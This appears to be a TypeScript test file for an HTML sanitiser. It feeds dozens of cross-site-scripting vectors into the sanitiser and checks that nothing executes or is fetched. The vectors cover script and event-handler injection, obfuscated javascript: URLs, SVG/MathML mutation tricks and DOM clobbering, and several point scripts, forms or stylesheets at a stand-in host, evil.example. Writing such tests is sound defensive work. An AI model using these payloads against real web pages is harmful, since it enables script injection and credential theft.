import { expect } from '@open-wc/testing';
import fc from 'fast-check';

import { sanitise, type SafeNode } from '../../src/core/sanitise';
import { safeUrl } from '../../src/domain/safe-url';

const urlOf = (address: string) => {
  const url = safeUrl(address);
  return url === '#' ? undefined : url;
};
const clean = (html: string) => sanitise(html, urlOf);
const flat = (nodes: readonly SafeNode[]): readonly Exclude<SafeNode, string>[] =>
  nodes.flatMap((node) => (typeof node === 'string' ? [] : [node, ...flat(node.children)]));
const words = (nodes: readonly SafeNode[]): string =>
  nodes.map((node) => (typeof node === 'string' ? node : words(node.children))).join('');

const tags = new Set(
  'a abbr b blockquote br caption dd div dl dt em h2 h3 h4 h5 h6 hr i li ol p s small strong sub sup table tbody td tfoot th thead tr u ul'.split(
    ' ',
  ),
);
const names = new Set(['href', 'target', 'title', 'colSpan', 'rowSpan', 'scope']);
/** Whether the address is safe as a browser would read it. */
const isSafe = (href: string) =>
  !URL.canParse(href, 'https://agency.example') ||
  ['https:', 'http:', 'mailto:', 'tel:'].includes(new URL(href, 'https://agency.example').protocol);
/** What must be true of every result. */
const isHarmless = (nodes: readonly SafeNode[]) =>
  flat(nodes).every(
    ({ tag, attributes }) =>
      tags.has(tag) &&
      Object.keys(attributes).every((name) => names.has(name)) &&
      (tag !== 'a' || isSafe(String(attributes['href']))),
  );

const canary = 'canaryRan';
const vectors = [
  `<script>${canary}()</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${canary}()>`,
  `<img src="x:x" onerror="${canary}()"//`,
  `<svg onload=${canary}()>`,
  `<svg><script>${canary}()</script></svg>`,
  `<svg><a xlink:href="javascript:${canary}()"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${canary}() attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${canary}()></style></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${canary}()>`,
  `<math><mi//xlink:href="data:x,<script>${canary}()</script>">`,
  `<a href="javascript:${canary}()">x</a>`,
  `<a href="JaVaScRiPt:${canary}()">x</a>`,
  `<a href=" &#14; javascript:${canary}()">x</a>`,
  `<a href="java\tscript:${canary}()">x</a>`,
  `<a href="java&#10;script:${canary}()">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${canary}()">x</a>`,
  `<a href="vbscript:${canary}()">x</a>`,
  `<a href="data:text/html,<script>${canary}()</script>">x</a>`,
  `<a href="blob:https://x/y">x</a>`,
  `<a href="/fine" onclick="${canary}()" onmouseover=${canary}() style="position:fixed;inset:0">x</a>`,
  `<a href="/fine" target="_top" ping="https://evil.example">x</a>`,
  `<p style="background:url(javascript:${canary}())">x</p>`,
  `<p id="agency-data" name="getElementById" class="agency-dialog">x</p>`,
  `<iframe src="javascript:${canary}()"></iframe>`,
  `<iframe srcdoc="<script>parent.${canary}()</script>"></iframe>`,
  `<object data="javascript:${canary}()"></object>`,
  `<embed src="javascript:${canary}()">`,
  `<form action="https://evil.example"><input name=password><button formaction="javascript:${canary}()">x</button></form>`,
  `<form><input name=childNodes><input name=localName><input name=attributes></form>`,
  `<form id=f></form><button form=f formaction="javascript:${canary}()">x</button>`,
  `<input autofocus onfocus=${canary}()>`,
  `<details open ontoggle=${canary}()>x</details>`,
  `<video><source onerror=${canary}()></video>`,
  `<audio src onloadstart=${canary}()>`,
  `<marquee onstart=${canary}()>x</marquee>`,
  `<body onload=${canary}()>x`,
  `<meta http-equiv=refresh content="0;url=javascript:${canary}()">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';*{display:none}</style>`,
  `<template><img src=x onerror=${canary}()></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}()>">`,
  `<textarea><script>${canary}()</script></textarea>`,
  `<select><option><script>${canary}()</script></option></select>`,
  `<title><img src=x onerror=${canary}()></title>`,
  `<xmp><img src=x onerror=${canary}()></xmp>`,
  `<plaintext><img src=x onerror=${canary}()>`,
  `<!--><img src=x onerror=${canary}()>-->`,
  `<!--[if IE]><script>${canary}()</script><![endif]-->`,
  `<![CDATA[<script>${canary}()</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${canary}()</x:script>`,
  `<agency-sign-in>x</agency-sign-in>`,
  `<x-any onclick=${canary}()>x</x-any>`,
  `<p is="x-any">x</p>`,
  `<slot name=agency></slot>`,
  `<div slot="agency" data-agency-layer>x</div>`,
  `<table background="javascript:${canary}()"><td colspan=9999999>x</table>`,
  `<th scope="javascript:${canary}()">x</th>`,
  `<b <script>${canary}()</script>0`,
  `<<script>${canary}()//<</script>`,
  `\u0000<scr\u0000ipt>${canary}()</scr\u0000ipt>`,
];

describe('what agencies write', () => {
  let ran = 0;
  before(() => void Reflect.set(globalThis, canary, () => void ran++));
  after(() => void Reflect.deleteProperty(globalThis, canary));

  for (const vector of vectors) {
    it(`T01 loses what could do harm: ${vector.slice(0, 60)}`, () => {
      const nodes = clean(`before ${vector}`);
      expect(isHarmless(nodes), JSON.stringify(nodes)).to.equal(true);
      expect(words(nodes)).to.include('before');
      expect(JSON.stringify(flat(nodes))).to.not.match(/on\w+=|style|agency-|srcdoc|formaction/);
    });
  }

  it('T01 T23 runs nothing and fetches nothing while it is read', async () => {
    const before = performance.getEntriesByType('resource').length;
    for (const vector of vectors) clean(vector);
    clean(
      '<img src="/canary.png"><link rel=stylesheet href="/canary.css"><video poster="/canary.webp" src="/canary.mp4">',
    );
    await new Promise((done) => setTimeout(done, 300));
    expect(ran).to.equal(0);
    const fetched = performance.getEntriesByType('resource').slice(before);
    expect(fetched.filter(({ name }) => name.includes('canary'))).to.deep.equal([]);
  });

  it('keeps words, lists, tables and links', () => {
    expect(
      clean(
        'I <strong>agree</strong> to the <a href="/terms" target="_blank" class="x">terms</a>.<br><span>Yes</span>',
      ),
    ).to.deep.equal([
      'I ',
      { tag: 'strong', attributes: {}, children: ['agree'] },
      ' to the ',
      { tag: 'a', attributes: { href: '/terms', target: '_blank' }, children: ['terms'] },
      '.',
      { tag: 'br', attributes: {}, children: [] },
      'Yes',
    ]);
    const [table] = clean('<table><tr><th scope="col" colspan="2">Fee</th></tr><tr><td>£50</td></tr></table>');
    expect(flat([table!]).map(({ tag }) => tag)).to.deep.equal(['table', 'tbody', 'tr', 'th', 'tr', 'td']);
    expect(flat([table!])[3]!.attributes).to.deep.equal({ scope: 'col', colSpan: 2 });
  });

  it('keeps the words of a link that may lead nowhere', () => {
    expect(clean('<a href="javascript:alert(1)">terms</a>')).to.deep.equal(['terms']);
    expect(clean('<a name="x">terms</a>')).to.deep.equal(['terms']);
  });

  it('T01 is harmless whatever is written', () => {
    const part = fc.oneof(
      fc.constantFrom(...vectors),
      fc.string({ maxLength: 20 }),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<a href="',
        '">',
        '<!--',
        '-->',
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '</style>',
        "'",
        '"',
        '<',
        '>',
        '&',
      ),
      fc
        .tuple(
          fc.constantFrom('a', 'p', 'td', 'form', 'svg', 'x-y'),
          fc.constantFrom('href', 'onclick', 'style', 'target'),
          fc.string(),
        )
        .map(([tag, name, value]) => `<${tag} ${name}="${value}">`),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => isHarmless(clean(parts.join('')))),
      { numRuns: 400 },
    );
    expect(ran).to.equal(0);
  });

  it('T27 stops at a depth, a number and a length that nobody writes', () => {
    const deep = clean('<div>'.repeat(5_000));
    const many = clean('<b>x</b>'.repeat(6_000));
    const long = clean('x'.repeat(500_000));
    expect(flat(deep).length).to.be.below(40);
    expect(flat(many).length).to.be.at.most(5_000);
    expect(words(long).length).to.be.at.most(50_000);
  });
});
